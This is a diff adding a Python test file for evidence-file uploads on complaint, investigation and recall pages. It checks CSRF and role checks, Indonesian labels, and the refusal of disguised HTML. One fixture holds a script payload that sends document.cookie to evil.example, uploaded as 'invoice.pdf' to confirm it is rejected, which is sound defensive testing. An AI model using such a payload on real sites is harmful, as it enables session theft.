@@ -1,0 +1,130 @@
+"""Evidence files on the record pages: listed with their facts, uploaded by a plain form,
+downloaded as sent; refusals said on the page."""
+
+from __future__ import annotations
+
+import hashlib
+import re
+
+from tests.factories import headers_for, make_complaint, make_investigation
+from tests.pages.helpers import EN, csrf_token, signed_in_as
+
+PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+HTML = b"<!doctype html><script>document.location='https://evil.example/?'+document.cookie</script>"
+
+
+async def attach(client, page: str, name: str, content: bytes, *, action: str | None = None):
+    shown = await client.get(page, headers=EN)
+    assert shown.status_code == 200, shown.text
+    return await client.post(
+        action or f"{page}/attachments",
+        data={"_csrf_token": csrf_token(shown.text)},
+        files={"file": (name, content, "application/pdf")},
+        headers=EN,
+    )
+
+
+async def test_a_complaint_file_is_uploaded_listed_and_downloaded(client):
+    complaint = await make_complaint(client)
+    page = f"/complaints/{complaint['id']}"
+    user = await signed_in_as(client, "cs")
+    sent = await attach(client, page, "Foto kemasan retak.pdf", PDF)
+    assert sent.status_code == 303
+    anchor = f"attachments-complaint-{complaint['id']}"
+    assert sent.headers["location"] == f"{page}?attachment=saved&of={anchor}#{anchor}"
+
+    shown = await client.get(sent.headers["location"], headers=EN)
+    assert "The file is attached." in shown.text
+    assert "Foto kemasan retak.pdf" in shown.text
+    assert f"{len(PDF)} bytes" in shown.text
+    assert hashlib.sha256(PDF).hexdigest()[:12] in shown.text
+    assert user.full_name in shown.text
+    link = re.search(rf'href="({page}/attachments/\d+)" download', shown.text)
+    assert link, shown.text
+
+    await signed_in_as(client, "inspector")
+    download = await client.get(link[1])
+    assert download.status_code == 200
+    assert download.content == PDF
+    assert download.headers["content-disposition"].startswith("attachment;")
+    assert download.headers["x-content-type-options"] == "nosniff"
+    # An inspector reads, never attaches: no form.
+    assert 'type="file"' not in (await client.get(page)).text
+
+
+async def test_the_page_is_in_indonesian(client):
+    complaint = await make_complaint(client)
+    page = f"/complaints/{complaint['id']}"
+    await signed_in_as(client, "cs")
+    await attach(client, page, "scan.pdf", PDF)
+    shown = await client.get(page)
+    for text in ("Berkas bukti", "Belum ada berkas", "Lampirkan", "Ukuran", "Diunggah oleh"):
+        assert text in shown.text or text == "Belum ada berkas"
+    assert "Evidence files" not in shown.text and "Uploaded by" not in shown.text
+    assert "bytes" not in shown.text.split("Berkas bukti")[1].split("</section>")[0]
+
+
+async def test_a_web_page_is_refused_and_the_page_says_why(client):
+    complaint = await make_complaint(client)
+    page = f"/complaints/{complaint['id']}"
+    await signed_in_as(client, "qa")
+    sent = await attach(client, page, "invoice.pdf", HTML)
+    assert sent.status_code == 303
+    shown = await client.get(sent.headers["location"], headers=EN)
+    assert "this kind of file is not kept as evidence" in shown.text
+    assert "No files attached yet." in shown.text
+    empty = await attach(client, page, "nothing.pdf", b"")
+    assert "the file is empty" in (await client.get(empty.headers["location"], headers=EN)).text
+
+
+async def test_an_upload_without_the_form_token_is_refused(client):
+    complaint = await make_complaint(client)
+    await signed_in_as(client, "cs")
+    response = await client.post(
+        f"/complaints/{complaint['id']}/attachments",
+        files={"file": ("x.pdf", PDF, "application/pdf")},
+    )
+    assert response.status_code == 403
+    listed = await client.get(
+        "/api/attachments",
+        params={"entity": "complaint", "entity_id": complaint["id"]},
+        headers=await headers_for("qa"),
+    )
+    assert listed.json()["total"] == 0
+
+
+async def test_investigation_and_recall_pages_take_files_from_qa(client, two_tiers):
+    qa_headers = await headers_for("qa")
+    investigation = await make_investigation(client, qa_headers)
+    await signed_in_as(client, "qa")
+    for page in (f"/investigations/{investigation['id']}", f"/recalls/{two_tiers['recall']['id']}"):
+        sent = await attach(client, page, "report.pdf", PDF)
+        assert sent.status_code == 303, (page, sent.text)
+        assert "report.pdf" in (await client.get(sent.headers["location"], headers=EN)).text
+
+
+async def test_customer_service_cannot_attach_to_or_fetch_from_an_investigation(client):
+    qa_headers = await headers_for("qa")
+    investigation = await make_investigation(client, qa_headers)
+    uploaded = await client.post(
+        "/api/attachments",
+        data={"entity": "investigation", "entity_id": str(investigation["id"])},
+        files={"file": ("rca.pdf", PDF)},
+        headers=qa_headers,
+    )
+    attachment_id = uploaded.json()["id"]
+    complaint = await make_complaint(client)
+    await signed_in_as(client, "cs")
+    shown = await client.get(f"/complaints/{complaint['id']}")
+    posted = await client.post(
+        f"/investigations/{investigation['id']}/attachments",
+        data={"_csrf_token": csrf_token(shown.text)},
+        files={"file": ("x.pdf", PDF)},
+    )
+    assert posted.status_code == 403
+    # Not visible to this role: the same answer as an id that does not exist.
+    path = f"/investigations/{investigation['id']}/attachments/{attachment_id}"
+    assert (await client.get(path)).status_code == 404
+    # Another record's file is not reachable under this record's address.
+    elsewhere = f"/complaints/{complaint['id']}/attachments/{attachment_id}"
+    assert (await client.get(elsewhere)).status_code == 404
